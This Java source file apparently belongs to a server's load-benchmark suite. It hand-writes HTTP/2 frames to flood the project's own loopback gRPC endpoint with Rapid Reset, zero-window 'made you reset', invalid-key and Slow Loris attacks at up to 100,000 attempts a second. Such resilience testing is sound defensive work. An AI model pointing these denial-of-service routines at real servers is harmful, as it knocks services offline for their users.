package io.weighbridge.benchmarks.load;

import io.weighbridge.backend.keys.KeySecret;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;

/// One client that attacks over HTTP/2 written by hand, and comes back when it is put out. It sends
/// at most [#PER_SECOND] attempts a second: on two cores it must cost the server, not the load.
final class Attack implements AutoCloseable {
    private static final int PER_SECOND = 100_000;
    private static final int BATCH = 100;
    private static final int LOOSE_CONNECTIONS = 500;
    private static final byte[] PREFACE =
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] SETTINGS = frame(4, 0, 0, new byte[0]);
    // Room for replies that the attacker does not want to wait for.
    private static final byte[] WINDOW = frame(8, 0, 0, number(1 << 30));

    /// What is sent.
    enum Kind {
        RAPID_RESET,
        MADE_YOU_RESET,
        BAD_KEYS,
        SLOW_LORIS
    }

    private final Kind kind;
    private final int port;
    private final byte[] headers;
    private final LongAdder attempts = new LongAdder();
    private final LongAdder connections = new LongAdder();
    private final Thread thread;
    private volatile boolean ended;

    Attack(Kind kind, int port, String secret) {
        this.kind = kind;
        this.port = port;
        this.headers = headers(secret);
        this.thread = Thread.ofPlatform().start(this::run);
    }

    private void run() {
        while (!ended) {
            try {
                if (kind == Kind.SLOW_LORIS) {
                    trickle();
                } else {
                    flood();
                }
            } catch (IOException e) {
                // Put out; comes back.
            }
        }
    }

    private void flood() throws IOException {
        try (Socket socket = connect()) {
            Thread.ofVirtual().start(() -> drop(socket));
            OutputStream out = socket.getOutputStream();
            SecureRandom random = new SecureRandom();
            long startedNanos = System.nanoTime();
            for (int batch = 0; !ended; batch++) {
                long dueNanos = startedNanos + batch * (BATCH * 1_000_000_000L / PER_SECOND);
                while (System.nanoTime() - dueNanos < 0) {
                    LockSupport.parkNanos(200_000);
                }
                out.write(batch(batch * BATCH, random));
                attempts.add(BATCH);
            }
        }
    }

    private byte[] batch(int first, SecureRandom random) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream(1 << 15);
        byte[] call = kind == Kind.BAD_KEYS ? badKey(random) : new byte[0];
        for (int i = 0; i < BATCH; i++) {
            int stream = 2 * (first + i) + 1;
            bytes.writeBytes(frame(1, 4, stream, headers));
            switch (kind) {
                case RAPID_RESET -> bytes.writeBytes(frame(3, 0, stream, number(8)));
                case MADE_YOU_RESET -> bytes.writeBytes(frame(8, 0, stream, number(0)));
                case BAD_KEYS -> bytes.writeBytes(frame(0, 1, stream, call));
                case SLOW_LORIS -> throw new IllegalStateException();
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] badKey(SecureRandom random) {
        byte[] message =
                AuthorizeOverGrpc.authorize(KeySecret.generate("wb", "live", random))
                        .build()
                        .toByteArray();
        return ByteBuffer.allocate(5 + message.length)
                .put((byte) 0)
                .putInt(message.length)
                .put(message)
                .array();
    }

    /// Many connections, each with headers that never end, of which a byte comes now and then.
    private void trickle() throws IOException {
        Socket[] sockets = new Socket[LOOSE_CONNECTIONS];
        try {
            for (int i = 0; i < sockets.length; i++) {
                sockets[i] = connect();
                sockets[i].getOutputStream().write(new byte[] {0, 0x40, 0, 1, 0, 0, 0, 0, 1});
            }
            while (!ended) {
                for (Socket socket : sockets) {
                    socket.getOutputStream().write(0);
                    attempts.increment();
                }
                LockSupport.parkNanos(100_000_000);
            }
        } finally {
            for (Socket socket : sockets) {
                if (socket != null) {
                    socket.close();
                }
            }
        }
    }

    private Socket connect() throws IOException {
        Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
        socket.setTcpNoDelay(true);
        OutputStream out = socket.getOutputStream();
        out.write(PREFACE);
        out.write(SETTINGS);
        out.write(WINDOW);
        connections.increment();
        return socket;
    }

    private static void drop(Socket socket) {
        try (InputStream in = socket.getInputStream()) {
            byte[] buffer = new byte[1 << 16];
            while (in.read(buffer) >= 0) {
                // Nobody reads it.
            }
        } catch (IOException e) {
            // Put out.
        }
    }

    private static byte[] headers(String secret) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        literal(block, ":method", "POST");
        literal(block, ":scheme", "http");
        literal(block, ":path", "/weighbridge.v1.Gate/Authorize");
        literal(block, ":authority", "localhost");
        literal(block, "content-type", "application/grpc");
        literal(block, "te", "trailers");
        literal(block, "authorization", "Bearer " + secret);
        return block.toByteArray();
    }

    // All are shorter than 127 bytes.
    private static void literal(ByteArrayOutputStream block, String name, String value) {
        block.write(0);
        block.write(name.length());
        block.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
        block.write(value.length());
        block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    /// Attempts that the server's end of the connection took.
    long attempts() {
        return attempts.sum();
    }

    /// Connections that were needed for them.
    long connections() {
        return connections.sum();
    }

    @Override
    public void close() {
        ended = true;
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
